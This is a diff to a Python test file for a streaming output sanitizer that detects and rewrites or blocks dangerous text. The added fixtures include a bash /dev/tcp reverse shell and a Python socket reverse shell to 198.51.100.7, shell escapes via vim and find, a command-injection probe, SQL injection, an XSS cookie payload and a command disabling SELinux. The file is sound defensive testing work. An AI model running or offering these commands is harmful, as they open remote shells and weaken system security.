@@ -52,7 +52,9 @@ def test_level_by_risk_table(level, risk):
 def test_obfuscation_format():
     assert obfuscate("developer") == "dev-elo-per"
     assert obfuscate("rm -rf /") == "rm --rf- /"
-    assert obfuscate("ab") == "ab"
+    assert obfuscate("ab") == "a-b"      # short fragments change too
+    assert obfuscate(";id") == ";-id"
+    assert obfuscate("x") == "x"
 
 
 def test_spam_is_removed_never_obfuscated():
@@ -140,3 +142,78 @@ def test_streamed_prefixes_grow_into_the_buffered_result():
         sent = out
     assert sent == sanitizer.apply(text, detector.scan(text)).text
     assert len(text) > hold + 300   # so part of the text was emitted before the end
+
+
+def stream(text: str, hold, sanitizer: OutputSanitizer, detectors, cuts) -> tuple[str, int]:
+    """Emit per the streaming contract at each cut; return what the client got and the most text that
+    was held back at any point."""
+    sent, held = "", 0
+    for end in [*cuts, len(text)]:
+        partial = text[:end]
+        findings = [f for d in detectors for f in d.scan(partial)]
+        n = safe_prefix_length(partial, findings, hold, final=end == len(text))
+        final = [f for f in findings if f.end <= n]
+        if sanitizer.decide(final).action == "block":   # end the stream with the marker
+            out = sanitizer.apply(partial[:n], final, keep_prefix=True).text
+            assert out.startswith(sent)
+            return out, max(held, end - n)
+        out = sanitizer.apply(partial[:n], final).text
+        assert out.startswith(sent)
+        sent, held = out, max(held, end - n)
+    return sent, held
+
+
+STREAMED = [
+    ("Build it:\n```bash\nmake clean && make -j4\nrm -rf ./build\n```\nThen reverse it:\n"
+     "bash -i >& /dev/tcp/198.51.100.7/9001 0>&1\nDone.\n"),
+    ("Shell escapes people ask about:\nvim -c ':!/bin/sh'\nfind . -exec /bin/sh \\; -quit\n"
+     "and a probe: `;id` plus ' OR '1'='1 --\nThat's all.\n"),
+    ("import socket, os\ns = socket.socket()\ns.connect((\"198.51.100.7\", 9001))\nos.dup2(s.fileno(), 0)\n"
+     "os.system(\"/bin/sh\")\nprint('ok')\n"),
+    "<div>\n<script>\n  alert(document.cookie)\n</script>\n</div>\nsudo setenforce 0\nok\n",
+    "Plain prose that runs on for a while without any line break at all, " * 10 + "\nthe end.\n",
+]
+
+
+@pytest.mark.parametrize("level", ["medium", "high"])
+@pytest.mark.parametrize("text", STREAMED)
+def test_line_hold_back_streams_the_buffered_result(level, text):
+    """With the per-line hold-back, every 1-character step gives the buffered text in the end."""
+    from aegis_addons.detect.danger import HoldBack
+    from aegis_addons.detect.privilege import PrivilegeGuard
+
+    danger, privilege = DangerDetector(), PrivilegeGuard()
+    sanitizer = OutputSanitizer(level)
+    hold = HoldBack(danger, privilege)
+    sent, _ = stream(text, hold, sanitizer, (danger, privilege), range(1, len(text)))
+    assert sent == sanitizer.apply(text, danger.scan(text) + privilege.scan(text), keep_prefix=True).text
+
+
+@pytest.mark.parametrize("seed", range(5))
+def test_line_hold_back_random_chunks(seed):
+    import random
+
+    from aegis_addons.detect.danger import HoldBack
+    from aegis_addons.detect.privilege import PrivilegeGuard
+
+    rng = random.Random(seed)
+    danger, privilege = DangerDetector(), PrivilegeGuard()
+    sanitizer = OutputSanitizer("low")           # low: rewrites, never blocks, so the text goes through
+    text = "".join(rng.choice(STREAMED) for _ in range(3))
+    cuts = sorted(rng.sample(range(1, len(text)), 40))
+    sent, _ = stream(text, HoldBack(danger, privilege), sanitizer, (danger, privilege), cuts)
+    assert sent == sanitizer.apply(text, danger.scan(text) + privilege.scan(text)).text
+
+
+def test_line_hold_back_is_short_for_code():
+    """Shell help and code come out a line behind, not max_pending_chars behind."""
+    from aegis_addons.detect.danger import HoldBack
+    from aegis_addons.detect.privilege import PrivilegeGuard
+
+    danger, privilege = DangerDetector(), PrivilegeGuard()
+    text = "".join(f"step {i}:\nmake target_{i} && ./bin/check --verbose\n" for i in range(40))
+    hold = HoldBack(danger, privilege)
+    sent, held = stream(text, hold, OutputSanitizer("medium"), (danger, privilege), range(1, len(text)))
+    assert sent == text
+    assert held <= max(len(line) + 1 for line in text.splitlines())
+    assert hold.max_pending_chars == max(danger.max_pending_chars, privilege.max_pending_chars)
